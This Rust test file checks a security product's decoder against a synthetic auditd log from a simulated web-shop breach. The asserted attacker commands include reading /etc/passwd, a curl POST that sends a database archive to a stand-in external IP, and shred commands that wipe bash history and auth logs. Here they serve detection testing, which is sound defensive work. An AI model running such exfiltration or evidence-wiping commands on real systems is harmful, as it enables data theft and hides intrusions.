//! The Linux audit log the range writes reads back through the product's own decoder:
//! every line decodes, with the fields the SigmaHQ auditd rules match (`type`, `a0`,
//! `a1`, …, `exe`) and the host in `node`; the campaign's commands are there and
//! labelled; the same seed writes the same log; arguments auditd hex-encodes come
//! back as written.

use std::collections::BTreeMap;
use std::io::Cursor;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use watchfloor_decode::{Collect, DecodeContext, Event, FileDecoder, Format};
use watchfloor_event::{FieldCache, FieldTable, Value};
use watchfloor_range::generate;
use watchfloor_range::net::{Account, Execve, audit_execve};
use watchfloor_range::scenario::Scenario;

fn scenario(file: &str) -> Scenario {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../scenarios")
        .join(file);
    let text = std::fs::read_to_string(&path).unwrap();
    Scenario::from_yaml(&path.display().to_string(), &text).unwrap()
}

/// The web-shop scenario cut to its first day (the campaign is over by then).
fn web_shop() -> Scenario {
    let mut s = scenario("web-sqli-customer-theft.yml");
    s.duration = "20h".to_string();
    s
}

fn out_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!(
        "watchfloor-range-audit-{name}-{}",
        std::process::id()
    ));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

fn decoder() -> FileDecoder {
    FileDecoder::new(DecodeContext::new(FieldCache::new(FieldTable::new())), None)
}

/// A decoded field as text.
fn field<'e>(d: &mut FileDecoder, ev: &'e Event, name: &str) -> Option<&'e str> {
    let id = d.ctx.id(name);
    ev.get(id).and_then(|v| v.as_str())
}

/// The labelled lines of one file: line number (1-based) → step.
fn labels(dir: &Path, file: &str) -> BTreeMap<u64, String> {
    let text = std::fs::read_to_string(dir.join("labels.jsonl")).unwrap();
    text.lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|v| v["file"] == file && v["line"].is_u64())
        .map(|v| {
            (
                v["line"].as_u64().unwrap_or(0),
                v["step"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect()
}

#[test]
fn audit_log_decodes_with_the_product_decoder() {
    let s = web_shop();
    let dir = out_dir("decode");
    generate::write(&s, s.seed, &dir).unwrap();
    let path = dir.join("linux/audit.log");
    let lines = std::fs::read_to_string(&path).unwrap().lines().count();
    assert!(lines > 10_000, "{lines} audit lines");

    let mut d = decoder();
    let mut sink = Collect::default();
    let reports = d.decode_path(&path, &mut sink);
    assert_eq!(reports.len(), 1);
    assert_eq!(reports[0].format, Some(Format::Auditd));
    assert!(sink.errors.is_empty(), "{:?}", sink.errors.first());
    assert_eq!(sink.events.len(), lines);

    let hosts = ["WEB01", "MAIL", "NS1", "PROXY", "FW"];
    let mut types: BTreeMap<String, usize> = BTreeMap::new();
    let mut commands: Vec<(String, Vec<String>, String)> = Vec::new();
    let mut last_serial: BTreeMap<String, i64> = BTreeMap::new();
    for ev in &sink.events {
        assert_eq!(ev.logsource.product(), Some("linux"));
        assert_eq!(ev.logsource.service(), Some("auditd"));
        let kind = field(&mut d, ev, "type").unwrap_or_default().to_string();
        let node = field(&mut d, ev, "node").unwrap_or_default().to_string();
        assert!(hosts.contains(&node.as_str()), "node {node}");
        *types.entry(kind.clone()).or_insert(0) += 1;
        let serial = match ev.get(d.ctx.id("audit_serial")) {
            Some(Value::Int(n)) => n,
            other => panic!("audit_serial {other:?}"),
        };
        // The file is in time order, and so are each host's serials: one per event
        // (its SYSCALL record comes first), rising.
        let last = last_serial.entry(node.clone()).or_insert(0);
        if kind == "SYSCALL" {
            assert!(serial > *last, "{node}: serial {serial} after {last}");
        } else {
            assert_eq!(serial, *last, "{node}: {kind} of another event");
        }
        *last = serial;
        match kind.as_str() {
            "SYSCALL" => {
                assert_eq!(field(&mut d, ev, "syscall"), Some("59"));
                assert_eq!(field(&mut d, ev, "SYSCALL"), Some("execve"));
                assert_eq!(field(&mut d, ev, "key"), Some("exec"));
                assert!(field(&mut d, ev, "exe").is_some_and(|e| e.starts_with('/')));
                assert!(field(&mut d, ev, "comm").is_some_and(|c| !c.is_empty()));
            }
            "EXECVE" => {
                let argc: usize = field(&mut d, ev, "argc").unwrap().parse().unwrap();
                let argv: Vec<String> = (0..argc)
                    .map(|i| field(&mut d, ev, &format!("a{i}")).unwrap().to_string())
                    .collect();
                commands.push((node.clone(), argv, String::new()));
            }
            "CWD" => assert!(field(&mut d, ev, "cwd").is_some_and(|c| c.starts_with('/'))),
            "PATH" => assert!(field(&mut d, ev, "name").is_some_and(|n| n.starts_with('/'))),
            "PROCTITLE" => assert!(field(&mut d, ev, "proctitle").is_some()),
            other => panic!("record type {other}"),
        }
    }
    // Every event is SYSCALL, EXECVE, CWD, PATH (two or three) and PROCTITLE.
    let events = types["SYSCALL"];
    for kind in ["EXECVE", "CWD", "PROCTITLE"] {
        assert_eq!(types[kind], events, "{types:?}");
    }
    assert!(types["PATH"] >= 2 * events, "{types:?}");

    let ran = |node: &str, argv: &[&str]| {
        commands
            .iter()
            .any(|(n, a, _)| n == node && a.iter().map(String::as_str).eq(argv.iter().copied()))
    };
    // Cron on every server, the shop's job, an admin's login and sudo.
    for host in hosts {
        assert!(
            ran(host, &["/bin/sh", "/usr/lib/sysstat/debian-sa1", "1", "1"]),
            "{host}"
        );
    }
    assert!(ran("WEB01", &["php", "/var/www/shop/cron.php"]));
    assert!(ran("WEB01", &["-bash"]));
    assert!(ran("WEB01", &["uname", "-snrvm"]));
    assert!(
        commands
            .iter()
            .any(|(n, a, _)| n == "WEB01" && a.first().is_some_and(|a| a == "sudo"))
    );

    // The intruder's commands, labelled with their steps.
    let labelled = labels(&dir, "linux/audit.log");
    let text = std::fs::read_to_string(&path).unwrap();
    let mut by_step: BTreeMap<String, Vec<Vec<String>>> = BTreeMap::new();
    for (n, line) in text.lines().enumerate() {
        let Some(step) = labelled.get(&(n as u64 + 1)) else {
            continue;
        };
        if !line.contains(" type=EXECVE ") {
            continue;
        }
        let mut one = Collect::default();
        d.decode_stream(
            Arc::from("line"),
            Cursor::new(line.as_bytes().to_vec()),
            &mut one,
        );
        let ev = &one.events[0];
        let argc: usize = field(&mut d, ev, "argc").unwrap().parse().unwrap();
        let argv = (0..argc)
            .map(|i| field(&mut d, ev, &format!("a{i}")).unwrap().to_string())
            .collect();
        by_step.entry(step.clone()).or_default().push(argv);
    }
    let has = |step: &str, argv: &[&str]| {
        by_step.get(step).is_some_and(|v| {
            v.iter()
                .any(|a| a.iter().map(String::as_str).eq(argv.iter().copied()))
        })
    };
    assert!(has("bruteforce", &["-bash"]), "{by_step:?}");
    assert!(has("bruteforce", &["id"]));
    assert!(has("bruteforce", &["uname", "-a"]));
    assert!(has("bruteforce", &["cat", "/etc/passwd"]));
    assert!(has("bruteforce", &["sudo", "-l"]));
    assert!(has(
        "collect",
        &["tar", "czf", "/tmp/.cache/db.tgz", "/var/backups/shop"]
    ));
    assert!(has(
        "exfil",
        &[
            "curl",
            "-sk",
            "-X",
            "POST",
            "--data-binary",
            "@/tmp/.cache/db.tgz",
            "https://203.0.113.150/upload"
        ]
    ));
    assert!(has(
        "cleanup",
        &[
            "shred",
            "-u",
            "-z",
            "/tmp/.cache/db.tgz",
            "/home/webadmin/.bash_history",
            "/var/log/auth.log.1"
        ]
    ));
    // Nothing else of the campaign runs programs on a Linux host.
    assert!(
        by_step
            .keys()
            .all(|s| ["bruteforce", "collect", "exfil", "cleanup"].contains(&s.as_str())),
        "{:?}",
        by_step.keys()
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn same_seed_same_audit_log() {
    let mut s = web_shop();
    s.duration = "6h".to_string();
    let (a, b, c) = (out_dir("seed-a"), out_dir("seed-b"), out_dir("seed-c"));
    generate::write(&s, 5, &a).unwrap();
    generate::write(&s, 5, &b).unwrap();
    generate::write(&s, 6, &c).unwrap();
    let read = |dir: &PathBuf| std::fs::read(dir.join("linux/audit.log")).unwrap();
    assert!(!read(&a).is_empty());
    assert_eq!(read(&a), read(&b));
    assert_ne!(read(&a), read(&c));
    for dir in [a, b, c] {
        let _ = std::fs::remove_dir_all(&dir);
    }
}

#[test]
fn hex_encoded_arguments_round_trip_through_the_decoder() {
    let argv = [
        "sh",
        "-c",
        "tar czf \"/tmp/my backup.tgz\" /srv",
        "naïve\tname",
        "plain",
        "",
    ];
    let user = Account {
        id: 1001,
        name: "alice",
    };
    let root = Account {
        id: 0,
        name: "root",
    };
    let lines = audit_execve(
        1_776_038_400_123_456_789,
        4711,
        &Execve {
            node: "WEB01",
            pid: 4242,
            ppid: 4200,
            auid: Some(user),
            uid: user,
            gid: user,
            euid: user,
            egid: user,
            tty: Some("pts0"),
            ses: Some(12),
            path: "/usr/bin/sh",
            owner: root,
            exe: "/usr/bin/dash",
            interpreter: None,
            argv: &argv,
            cwd: "/home/alice/my files",
            key: "exec",
        },
    );
    let text = lines.join("\n");
    // Plain arguments stay quoted, the others are hex.
    assert!(text.contains(" a0=\"sh\" a1=\"-c\" a2=7461722063"));
    assert!(text.contains(" a4=\"plain\" a5=\"\""));

    let mut d = decoder();
    let mut sink = Collect::default();
    d.decode_stream(
        Arc::from("audit.log"),
        Cursor::new(text.into_bytes()),
        &mut sink,
    );
    assert!(sink.errors.is_empty(), "{:?}", sink.errors);
    assert_eq!(sink.events.len(), 6);
    let execve = sink
        .events
        .iter()
        .find(|ev| field(&mut d, ev, "type") == Some("EXECVE"))
        .unwrap();
    for (i, arg) in argv.iter().enumerate() {
        assert_eq!(field(&mut d, execve, &format!("a{i}")), Some(*arg), "a{i}");
    }
    assert!(field(&mut d, execve, "a2_hex").is_some());
    assert!(field(&mut d, execve, "a0_hex").is_none());
    let get = |d: &mut FileDecoder, kind: &str, name: &str| {
        sink.events
            .iter()
            .find(|ev| field(d, ev, "type") == Some(kind))
            .and_then(|ev| field(d, ev, name).map(str::to_string))
    };
    assert_eq!(
        get(&mut d, "CWD", "cwd").as_deref(),
        Some("/home/alice/my files")
    );
    assert_eq!(
        get(&mut d, "PROCTITLE", "proctitle").as_deref(),
        Some("sh -c tar czf \"/tmp/my backup.tgz\" /srv naïve\tname plain")
    );
    assert_eq!(get(&mut d, "SYSCALL", "node").as_deref(), Some("WEB01"));
    assert_eq!(
        get(&mut d, "SYSCALL", "exe").as_deref(),
        Some("/usr/bin/dash")
    );
    assert_eq!(get(&mut d, "SYSCALL", "AUID").as_deref(), Some("alice"));
    assert_eq!(sink.events[0].time.as_nanos(), 1_776_038_400_123_000_000);
}
